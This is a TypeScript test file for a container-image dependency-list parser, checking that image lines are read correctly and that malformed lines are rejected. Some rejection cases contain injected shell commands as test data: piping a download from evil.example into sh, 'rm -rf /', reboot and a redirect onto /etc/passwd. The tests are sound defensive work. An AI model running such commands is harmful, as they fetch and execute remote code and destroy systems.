import { DEPENDENCY_LIST_FILES } from '../testing/reference-data';
import { LINE_PROBLEM_CODES, LineProblemCode, MessageParams } from './codes';
import { DependencyFileReading, PlaceholderValues, readDependencyFile } from './dependency-file';

const HEX = 'a3f1c0de'.repeat(8);
const ATTACHER = 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1';

interface ImageCase {
  readonly line: string;
  readonly reference: string;
  readonly placeholders?: PlaceholderValues;
}

interface ProblemCase {
  readonly line: string;
  readonly code: LineProblemCode;
  readonly params?: MessageParams;
  readonly placeholders?: PlaceholderValues;
}

const imageCases: readonly ImageCase[] = [
  {
    line: 'projects.registry.vmware.com/vmware-cloud-director cluster-api-provider-cloud-director v1.3.0',
    reference: 'projects.registry.vmware.com/vmware-cloud-director/cluster-api-provider-cloud-director:v1.3.0',
  },
  {
    line: 'projects.registry.vmware.com vmware-cloud-director/cluster-api-provider-cloud-director v1.3.0',
    reference: 'projects.registry.vmware.com/vmware-cloud-director/cluster-api-provider-cloud-director:v1.3.0',
  },
  { line: 'registry.k8s.io sig-storage/csi-attacher v3.2.1', reference: ATTACHER },
  { line: 'registry.k8s.io\tsig-storage/csi-attacher\t\tv3.2.1', reference: ATTACHER },
  { line: 'registry.k8s.io\u00A0sig-storage/csi-attacher\u3000v3.2.1', reference: ATTACHER },
  { line: '   registry.k8s.io sig-storage/csi-attacher v3.2.1   ', reference: ATTACHER },
  { line: 'Registry.K8s.IO sig-storage/csi-attacher v3.2.1', reference: ATTACHER },
  { line: 'registry.k8s.io/ /sig-storage/csi-attacher v3.2.1', reference: ATTACHER },
  { line: 'registry.k8s.io sig-storage/csi-attacher v3.2.1 # 1.6.0 adds the resizer', reference: ATTACHER },
  { line: ATTACHER, reference: ATTACHER },
  { line: 'projects.registry.vmware.com/tkg/etcd:v3.5.10_vmware.1', reference: 'projects.registry.vmware.com/tkg/etcd:v3.5.10_vmware.1' },
  { line: `harbor.corp.local:8443/cse/tkg/coredns@sha256:${HEX}`, reference: `harbor.corp.local:8443/cse/tkg/coredns@sha256:${HEX}` },
  { line: `harbor.corp.local/cse/tkg/etcd:v3@sha256:${HEX}`, reference: `harbor.corp.local/cse/tkg/etcd:v3@sha256:${HEX}` },
  { line: `registry.k8s.io sig-storage/csi-attacher sha256:${HEX}`, reference: `registry.k8s.io/sig-storage/csi-attacher@sha256:${HEX}` },
  { line: `registry.k8s.io sig-storage/csi-attacher @sha256:${HEX}`, reference: `registry.k8s.io/sig-storage/csi-attacher@sha256:${HEX}` },
  { line: 'localhost:5000/tkg/etcd:v3', reference: 'localhost:5000/tkg/etcd:v3' },
  { line: '[fd00::10]:5000/tkg/etcd:v3', reference: '[fd00::10]:5000/tkg/etcd:v3' },
  { line: '10.0.0.5/a.b/c_d/e__f/g--h:Latest_1.0-x', reference: '10.0.0.5/a.b/c_d/e__f/g--h:Latest_1.0-x' },
  {
    line: '__REGISTRY__ cloud-provider-for-cloud-director __VERSION__',
    placeholders: { version: '1.6.0' },
    reference: 'projects.registry.vmware.com/vmware-cloud-director/cloud-provider-for-cloud-director:1.6.0',
  },
  {
    line: '__REGISTRY__/sig-storage/csi-attacher:v3.2.1',
    reference: 'projects.registry.vmware.com/vmware-cloud-director/sig-storage/csi-attacher:v3.2.1',
  },
  {
    line: '__REGISTRY__ cluster-api-provider-cloud-director __VERSION__',
    placeholders: { registry: 'harbor.local/mirror', version: 'v1.3.2' },
    reference: 'harbor.local/mirror/cluster-api-provider-cloud-director:v1.3.2',
  },
];

const problemCases: readonly ProblemCase[] = [
  { line: 'registry.k8s.io sig-storage\u200B/csi-attacher v3.2.1', code: 'nonPrintable', params: { codePoint: 'U+200B' } },
  { line: 'registry.k8s.io sig-storage/\u202Ecsi-attacher v3.2.1', code: 'nonPrintable', params: { codePoint: 'U+202E' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher\u000Bv3.2.1', code: 'nonPrintable', params: { codePoint: 'U+000B' } },
  { line: 'registry.k8s.io\uFEFFsig-storage/csi-attacher v3.2.1', code: 'nonPrintable', params: { codePoint: 'U+FEFF' } },
  { line: '\u001B[31mregistry.k8s.io sig-storage/csi-attacher v3.2.1', code: 'nonPrintable', params: { codePoint: 'U+001B' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher v3.2.1\uD800', code: 'nonPrintable', params: { codePoint: 'U+D800' } },
  { line: 'https://projects.registry.vmware.com/tkg/etcd:v3.5.10_vmware.1', code: 'urlLike', params: { scheme: 'https' } },
  { line: 'oci://harbor.local/cse/tkg/etcd:v3', code: 'urlLike', params: { scheme: 'oci' } },
  { line: 'registry.k8s.io docker://sig-storage/csi-attacher v3.2.1', code: 'urlLike', params: { scheme: 'docker' } },
  {
    line: 'registry.k8s.io sig-storage/csi-attacher $(curl -s evil.example | sh)',
    code: 'shellMetacharacters',
    params: { characters: '$ ( | )' },
  },
  { line: 'registry.k8s.io sig-storage/csi-attacher `reboot`', code: 'shellMetacharacters', params: { characters: '`' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher v3.2.1; rm -rf /', code: 'shellMetacharacters', params: { characters: ';' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher v3.2.1 && reboot', code: 'shellMetacharacters', params: { characters: '&' } },
  { line: '${registry} cloud-provider-for-cloud-director ${cpi_version}', code: 'shellMetacharacters', params: { characters: '$ { }' } },
  { line: 'registry.k8s.io "sig-storage/csi-attacher" v3.2.1 > /etc/passwd', code: 'shellMetacharacters', params: { characters: '" >' } },
  { line: 'registry.k8s.io sig-storage/csi-* v3.2.1', code: 'shellMetacharacters', params: { characters: '*' } },
  { line: 'registry.k8s.io sig-storage csi-attacher v3.2.1', code: 'tooManyFields', params: { fields: 4 } },
  { line: 'docker pull registry.k8s.io/sig-storage/csi-attacher v3.2.1', code: 'tooManyFields', params: { fields: 4 } },
  { line: 'registry.k8s.io sig-storage/csi-attacher', code: 'tooFewFields', params: { fields: 2 } },
  { line: 'sig-storage/csi-attacher v3.2.1', code: 'tooFewFields', params: { fields: 2 } },
  {
    line: '__REGISTRY__ cloud-provider-for-cloud-director __VERSION__',
    code: 'unresolvedPlaceholder',
    params: { placeholder: '__VERSION__' },
  },
  { line: 'registry.k8s.io sig-storage/csi-attacher __TAG__', code: 'unresolvedPlaceholder', params: { placeholder: '__TAG__' } },
  { line: 'nginx:1.25', code: 'invalidReference', params: { name: 'nginx' } },
  { line: 'library/nginx:1.25', code: 'invalidReference', params: { name: 'library/nginx' } },
  {
    line: 'registry.k8s.io Sig-Storage/csi-attacher v3.2.1',
    code: 'invalidReference',
    params: { name: 'registry.k8s.io/Sig-Storage/csi-attacher' },
  },
  {
    line: 'registry.k8s.io sig-storage//csi-attacher v3.2.1',
    code: 'invalidReference',
    params: { name: 'registry.k8s.io/sig-storage//csi-attacher' },
  },
  {
    line: 'registry.k8s.io sig-storage/csi-attacher:v3.2.1 v3.2.1',
    code: 'invalidReference',
    params: { name: 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1' },
  },
  {
    line: 'registry.k8s.io sig-storage/csi-attächer v3.2.1',
    code: 'invalidReference',
    params: { name: 'registry.k8s.io/sig-storage/csi-attächer' },
  },
  { line: 'bücher.example/cse/etcd:v3', code: 'invalidReference', params: { name: 'bücher.example/cse/etcd' } },
  { line: 'harbor.local:99999/cse/etcd:v3', code: 'invalidReference', params: { name: 'harbor.local:99999/cse/etcd' } },
  { line: `harbor.local/${'a'.repeat(243)}:v1`, code: 'invalidReference', params: { name: `harbor.local/${'a'.repeat(243)}` } },
  { line: `registry.k8s.io ${'a/'.repeat(600)}x v1`, code: 'invalidReference', params: { maxLength: 1024 } },
  { line: 'registry.k8s.io/sig-storage/csi-attacher', code: 'invalidTag', params: { tag: '' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher .v3', code: 'invalidTag', params: { tag: '.v3' } },
  { line: 'registry.k8s.io sig-storage/csi-attacher v1.26.8+vmware.1', code: 'invalidTag', params: { tag: 'v1.26.8+vmware.1' } },
  { line: `registry.k8s.io sig-storage/csi-attacher ${'v'.repeat(129)}`, code: 'invalidTag', params: { tag: 'v'.repeat(129) } },
  { line: 'registry.k8s.io/sig-storage/csi-attacher@sha256:abc', code: 'invalidDigest', params: { digest: 'sha256:abc' } },
  {
    line: `registry.k8s.io sig-storage/csi-attacher sha256:${HEX.toUpperCase()}`,
    code: 'invalidDigest',
    params: { digest: `sha256:${HEX.toUpperCase()}` },
  },
  {
    line: 'registry.k8s.io sig-storage/csi-attacher @md5:0cc175b9c0f1b6a831c399e269772661',
    code: 'invalidDigest',
    params: { digest: 'md5:0cc175b9c0f1b6a831c399e269772661' },
  },
];

function parsed(reading: DependencyFileReading): Extract<DependencyFileReading, { kind: 'parsed' }> {
  if (reading.kind !== 'parsed') {
    throw new Error(`rejected with ${reading.code}`);
  }
  return reading;
}

function references(reading: DependencyFileReading): string[] {
  return parsed(reading).images.map(({ image }) => image.reference);
}

describe('readDependencyFile', () => {
  describe('when a line names an image', () => {
    for (const { line, reference, placeholders } of imageCases) {
      it(`reads ${JSON.stringify(line)} as ${reference}`, () => {
        const reading = parsed(readDependencyFile(line, placeholders));
        expect(reading.problems).toEqual([]);
        expect(reading.images.map(({ image }) => image.reference)).toEqual([reference]);
      });
    }

    it('splits a reference into registry, repository, tag and digest', () => {
      const [first] = parsed(readDependencyFile(`Harbor.Local:8443/cse/tkg/etcd:v3@sha256:${HEX}`)).images;
      expect(first?.image).toEqual({
        registry: 'harbor.local:8443',
        repository: 'cse/tkg/etcd',
        tag: 'v3',
        digest: `sha256:${HEX}`,
        reference: `harbor.local:8443/cse/tkg/etcd:v3@sha256:${HEX}`,
      });
    });
  });

  describe('when a line cannot be read', () => {
    for (const { line, code, params, placeholders } of problemCases) {
      it(`reports ${JSON.stringify(line.length > 80 ? `${line.slice(0, 80)}…` : line)} as ${code}`, () => {
        const reading = parsed(readDependencyFile(`# header\n\n${line}\n`, placeholders));
        expect(reading.images).toEqual([]);
        expect(reading.problems.map(({ line: number, code: found, params: values }) => ({ number, found, values }))).toEqual([
          { number: 3, found: code, values: params },
        ]);
      });
    }

    it('has a case for every reason code', () => {
      const covered = new Set(problemCases.map(({ code }) => code));
      expect(LINE_PROBLEM_CODES.filter((code) => !covered.has(code))).toEqual([]);
    });

    it('keeps reading after a bad line and numbers every line as an editor does', () => {
      const text = [
        'registry.k8s.io sig-storage/csi-attacher v3.2.1',
        '',
        'nginx',
        '   ',
        'registry.k8s.io x',
        ATTACHER.replace('attacher', 'resizer'),
      ].join('\r\n');
      const reading = parsed(readDependencyFile(text));
      expect(reading.images.map(({ line }) => line)).toEqual([1, 6]);
      expect(reading.problems.map(({ line, code }) => [line, code])).toEqual([
        [3, 'invalidReference'],
        [5, 'tooFewFields'],
      ]);
      expect(reading.lineCount).toBe(6);
    });

    it('shows a long bad line shortened to 200 characters', () => {
      const line = `registry.k8s.io ${'x'.repeat(300)}`;
      const [problem] = parsed(readDependencyFile(line)).problems;
      expect(problem?.text.length).toBe(200);
      expect(problem?.text.endsWith('…')).toBeTrue();
    });
  });

  describe('when a line is a comment', () => {
    it('ignores prose comments, even ones that hold a URL or shell text', () => {
      const text = ['# Images for CSE 4.2.1', '#', '# see https://example.com/docs; run $(getting_started.sh)', '# TODO'].join('\n');
      expect(readDependencyFile(text)).toEqual({ kind: 'parsed', images: [], skippedByUser: [], problems: [], lineCount: 4 });
    });

    it('keeps a commented-out image line as skipped by the user, in either shape', () => {
      const text = [
        '# projects.registry.vmware.com/vmware-cloud-director cluster-api-provider-cloud-director v1.3.0',
        '#registry.k8s.io sig-storage/csi-resizer v1.4.0',
        '  ## __REGISTRY__ cloud-provider-for-cloud-director __VERSION__',
        `#\t${ATTACHER}`,
      ].join('\n');
      const reading = parsed(readDependencyFile(text, { version: '1.6.0' }));
      expect(reading.images).toEqual([]);
      expect(reading.problems).toEqual([]);
      expect(reading.skippedByUser.map(({ line, image }) => [line, image.reference])).toEqual([
        [1, 'projects.registry.vmware.com/vmware-cloud-director/cluster-api-provider-cloud-director:v1.3.0'],
        [2, 'registry.k8s.io/sig-storage/csi-resizer:v1.4.0'],
        [3, 'projects.registry.vmware.com/vmware-cloud-director/cloud-provider-for-cloud-director:1.6.0'],
        [4, ATTACHER],
      ]);
    });
  });

  describe('when the file has the marks of another system', () => {
    it('skips a BOM and reads CRLF, CR and LF line ends alike', () => {
      const text = `\uFEFF${ATTACHER}\r\n# c\rregistry.k8s.io sig-storage/csi-resizer v1.4.0\n\r\n`;
      const reading = parsed(readDependencyFile(text));
      expect(reading.images.map(({ line, image }) => [line, image.reference])).toEqual([
        [1, ATTACHER],
        [3, 'registry.k8s.io/sig-storage/csi-resizer:v1.4.0'],
      ]);
    });

    it('reads UTF-8 bytes, BOM included', () => {
      const bytes = new TextEncoder().encode(`\uFEFF${ATTACHER}\n`);
      expect(references(readDependencyFile(bytes))).toEqual([ATTACHER]);
    });
  });

  describe('when given the reference dependency lists', () => {
    for (const file of DEPENDENCY_LIST_FILES) {
      it(`reads every line of ${file.name}`, () => {
        const reading = parsed(readDependencyFile(file.text, { version: file.version }));
        const imageLines = file.text.split('\n').filter((line) => line.trim() !== '').length;
        expect(reading.problems).toEqual([]);
        expect(reading.images.length).toBe(imageLines);
        expect(reading.images[0]?.image.tag).toBe(file.version);
      });
    }
  });
});
